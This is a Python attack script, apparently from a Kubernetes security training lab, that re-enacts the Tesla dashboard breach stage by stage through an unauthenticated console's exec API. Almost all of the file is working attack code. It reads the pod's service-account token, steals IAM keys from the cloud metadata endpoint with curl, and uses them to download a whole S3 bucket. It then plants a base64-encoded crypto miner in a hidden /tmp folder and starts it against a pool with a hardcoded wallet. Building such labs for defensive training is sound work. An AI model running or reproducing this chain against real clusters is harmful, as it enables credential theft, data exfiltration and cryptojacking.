"""The attacker of the live Tesla breach: a script run from outside the lab (the host's own network).

    python -m kubeguard.lab.attacker --console http://IP:PORT --s3 http://IP:PORT --pool-url stratum+tcp://NAME:PORT

It walks the chain through the open console only (every command runs in the console pod's shell) and
prints one JSON line per stage: {"stage", "status": "done" | "failed", "time", "detail"}. It stops at
the first stage that fails: without a shell there is no chain.
"""

from __future__ import annotations

import argparse
import base64
import json
import sys
import time
import urllib.request
from importlib import resources
from typing import Any

WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
MINER_PATH = "/tmp/.X11-cache/xmrig"
# Run in the pod by its Python: lists the bucket and downloads every object with the SDK's default
# credential chain ($HOME/.aws/credentials, where the attacker put the stolen keys).
S3_CLIENT = """
import boto3, sys
s3 = boto3.client("s3", endpoint_url=sys.argv[1], region_name="us-east-1")
keys = [o["Key"] for o in s3.list_objects_v2(Bucket="telemetry").get("Contents", [])]
size = sum(len(s3.get_object(Bucket="telemetry", Key=k)["Body"].read()) for k in keys)
print("objects", len(keys), "bytes", size)
"""


class StageFailed(Exception):
    """A stage could not be carried out (the console refused, the shell was killed, no credentials)."""


class Console:
    """The open dashboard's exec API (no authentication: that is the breach)."""

    def __init__(self, url: str) -> None:
        self.url = url.rstrip("/")

    def page(self) -> int:
        with urllib.request.urlopen(self.url + "/", timeout=30) as answer:
            return int(answer.status)

    def shell(self, command: str, timeout: float = 90) -> str:
        """Run `command` in the pod's shell; its output, or StageFailed when the shell did not finish well."""
        body = json.dumps({"command": command}).encode()
        request = urllib.request.Request(self.url + "/api/v1/exec", data=body, method="POST",
                                         headers={"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(request, timeout=timeout) as answer:
                result: dict[str, Any] = json.loads(answer.read())
        except OSError as exc:
            raise StageFailed(f"console unreachable: {exc}") from exc
        if result.get("exit") != 0:
            raise StageFailed(f"shell exit {result.get('exit')}: {str(result.get('output', '')).strip()[:200]}")
        return str(result.get("output", ""))


def miner_source() -> bytes:
    return resources.files("kubeguard.lab").joinpath("miner.py").read_bytes()


def walk(console: Console, s3_url: str, pool_url: str, python: str) -> None:
    """Every stage in order; one JSON line each."""
    creds: dict[str, str] = {}

    def stage_console() -> str:
        uid, host = [*console.shell("id -u; hostname").split(), "?", "?"][:2]
        return f"uid {uid} on {host}"

    def stage_token() -> str:
        token = console.shell("cat /var/run/secrets/kubernetes.io/serviceaccount/token").strip()
        if not token:
            raise StageFailed("empty token")
        return f"token of {len(token)} characters"

    def stage_metadata() -> str:
        base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
        role = console.shell(f"curl -s -m 20 {base}").strip()
        answer = json.loads(console.shell(f"curl -s -m 20 {base}{role}"))
        creds.update(key=answer["AccessKeyId"], secret=answer["SecretAccessKey"])
        return f"role {role}, key {answer['AccessKeyId'][:4]}..."

    def stage_s3() -> str:
        profile = f"[default]\naws_access_key_id = {creds['key']}\naws_secret_access_key = {creds['secret']}\n"
        encoded = base64.b64encode(profile.encode()).decode()
        console.shell(f"mkdir -p ~/.aws && echo {encoded} | base64 -d > ~/.aws/credentials")
        return console.shell(f"{python} -c '{S3_CLIENT}' {s3_url}").strip()

    def stage_miner() -> str:
        encoded = base64.b64encode(miner_source()).decode()
        folder = MINER_PATH.rsplit("/", 1)[0]
        console.shell(f"mkdir -p {folder} && echo {encoded} | base64 -d > {MINER_PATH} && chmod +x {MINER_PATH}")
        console.shell(f"trap '' HUP; setsid nohup {MINER_PATH} -o {pool_url} -u {WALLET} --max-cpu 20 "
                      f"> {folder}/log 2>&1 < /dev/null &")
        return f"{MINER_PATH} started against {pool_url}"

    for name, step in (("console", stage_console), ("token", stage_token), ("metadata", stage_metadata),
                       ("s3", stage_s3), ("miner", stage_miner)):
        started = time.time()
        try:
            detail = step()
        except (StageFailed, ValueError, KeyError) as exc:
            report(name, "failed", started, str(exc))
            return
        report(name, "done", started, detail)


def report(stage: str, status: str, started: float, detail: str) -> None:
    print(json.dumps({"stage": stage, "status": status, "time": started, "detail": detail}), flush=True)


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(prog="kubeguard.lab.attacker")
    parser.add_argument("--console", required=True)
    parser.add_argument("--s3", required=True)
    parser.add_argument("--pool-url", required=True)
    parser.add_argument("--python", default=sys.executable, help="Python in the pod (has boto3)")
    args = parser.parse_args(argv)
    walk(Console(args.console), args.s3, args.pool_url, args.python)


if __name__ == "__main__":
    main()
